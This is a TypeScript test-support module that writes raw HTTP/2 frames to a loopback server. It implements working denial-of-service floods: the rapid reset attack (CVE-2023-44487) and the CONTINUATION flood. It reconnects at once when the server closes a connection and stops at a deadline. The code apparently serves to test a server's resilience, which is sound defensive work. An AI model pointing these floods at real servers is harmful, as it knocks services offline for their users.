/**
 * A bounded HTTP/2 flood client for loopback, written with raw frames over node:net (h2c prior
 * knowledge), because node:http2's client refuses to misbehave. Two attacks:
 *
 * - rapid reset (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL) on stream after stream;
 * - CONTINUATION flood (VU#421644): HEADERS without END_HEADERS, then CONTINUATION frames that
 *   never end the header block.
 *
 * A connection the server closes (GOAWAY ENHANCE_YOUR_CALM, too many CONTINUATIONs) is replaced
 * at once, as an attacker would. Everything stops at the deadline.
 */
import { connect, type Socket } from 'node:net';
import {
  CONTINUATION,
  END_HEADERS,
  END_STREAM,
  frame,
  getBlock,
  HEADERS,
  literal,
  PREFACE,
  RST_STREAM,
  SETTINGS,
} from '../../test/support/h2-frames.ts';

export type FloodKind = 'rapid-reset' | 'continuation';

export interface FloodOptions {
  readonly port: number;
  readonly kind: FloodKind;
  readonly durationMs: number;
  /** Connections kept open at once. */
  readonly connections: number;
  /** `:authority` sent (routing does not matter: the streams never complete). */
  readonly authority?: string;
}

export interface FloodResult {
  readonly connectionsOpened: number;
  readonly framesSent: number;
  readonly bytesSent: number;
}

const CANCEL = 0x8;

/** A header field for CONTINUATION frames: `x-fill-<i>: aaa…` (100 bytes). */
function fillerBlock(i: number): Buffer {
  return literal(`x-fill-${i % 1000}`, 'a'.repeat(100));
}

interface Counters {
  opened: number;
  frames: number;
  bytes: number;
}

/** One attacking connection: writes as fast as the socket takes it until closed or stopped. */
function attack(opts: FloodOptions, counters: Counters, stopped: () => boolean, onClose: () => void): Socket {
  const s = connect(opts.port, '127.0.0.1');
  const block = getBlock(opts.authority ?? 'flood.example.com');
  let stream = 1;
  let filler = 0;
  const write = (b: Buffer): boolean => {
    counters.frames += 1;
    counters.bytes += b.length;
    return s.write(b);
  };
  const pump = (): void => {
    while (!stopped() && !s.destroyed) {
      let ok: boolean;
      if (opts.kind === 'rapid-reset') {
        write(frame(HEADERS, END_HEADERS | END_STREAM, stream, block));
        const code = Buffer.alloc(4);
        code.writeUInt32BE(CANCEL);
        ok = write(frame(RST_STREAM, 0, stream, code));
        stream += 2;
      } else {
        ok = write(frame(CONTINUATION, 0, 1, fillerBlock(filler++)));
      }
      if (!ok) {
        s.once('drain', pump);
        return;
      }
    }
    if (!s.destroyed) s.destroy();
  };
  s.on('connect', () => {
    counters.opened += 1;
    write(PREFACE);
    write(frame(SETTINGS, 0, 0));
    // The block never ends: no END_HEADERS on HEADERS or any CONTINUATION.
    if (opts.kind === 'continuation') write(frame(HEADERS, END_STREAM, 1, block));
    pump();
  });
  // What the server says is not read beyond keeping the socket flowing.
  s.on('data', () => undefined);
  s.on('error', () => undefined);
  s.on('close', onClose);
  return s;
}

/** Runs the flood for `durationMs` with `connections` attacking connections at all times. */
export function flood(opts: FloodOptions): Promise<FloodResult> {
  const counters: Counters = { opened: 0, frames: 0, bytes: 0 };
  const deadline = Date.now() + opts.durationMs;
  const stopped = (): boolean => Date.now() >= deadline;
  const open = new Set<Socket>();
  return new Promise((resolve) => {
    const finish = (): void => {
      if (open.size > 0) return;
      resolve({ connectionsOpened: counters.opened, framesSent: counters.frames, bytesSent: counters.bytes });
    };
    const start = (): void => {
      const s = attack(opts, counters, stopped, () => {
        open.delete(s);
        // Connection refused in a burst: wait a little before the next one.
        if (!stopped()) setTimeout(start, s.bytesWritten === 0 ? 10 : 0);
        else finish();
      });
      open.add(s);
    };
    for (let i = 0; i < opts.connections; i++) start();
    setTimeout(() => {
      for (const s of open) s.destroy();
    }, opts.durationMs + 2000).unref();
  });
}
